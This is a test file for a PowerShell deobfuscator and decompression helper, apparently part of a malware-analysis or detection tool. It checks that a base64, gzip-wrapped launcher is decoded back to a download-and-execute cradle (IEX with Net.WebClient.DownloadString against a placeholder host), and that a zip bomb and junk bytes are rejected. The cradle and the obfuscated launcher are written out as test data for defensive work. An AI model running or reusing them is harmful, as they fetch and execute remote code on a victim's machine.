import { randomBytes } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { inflate } from '../../../src/adapters/compression/inflate.ts';
import { decodePowerShell } from '../../../src/core/windows/powershell/powershell.ts';

const CODE = 'IEX (New-Object Net.WebClient).DownloadString("https://example.test/a")';

test.each([
  ['gzip', gzipSync(CODE)],
  ['zlib', deflateSync(CODE)],
  ['raw deflate', deflateRawSync(CODE)],
])('%s inside base64 inside a command is read', (_name, packed) => {
  const line = `powershell -c "IEX(New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${packed.toString('base64')}'),1))).ReadToEnd())"`;
  expect(decodePowerShell(line, inflate)).toEqual([CODE]);
});

test('a bomb stays closed', () => {
  const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
  expect(inflate(bomb, 256 * 1024)).toBeUndefined();
});

test('bytes that are not compressed, cut short or random are none', () => {
  expect(inflate(new TextEncoder().encode('plain text that is long enough'), 1000)).toBeUndefined();
  expect(inflate(gzipSync(CODE).subarray(0, 30), 1000)).toBeUndefined();
  expect(inflate(new Uint8Array(), 1000)).toBeUndefined();
  for (let round = 0; round < 200; round += 1) inflate(randomBytes(64), 1000);
});
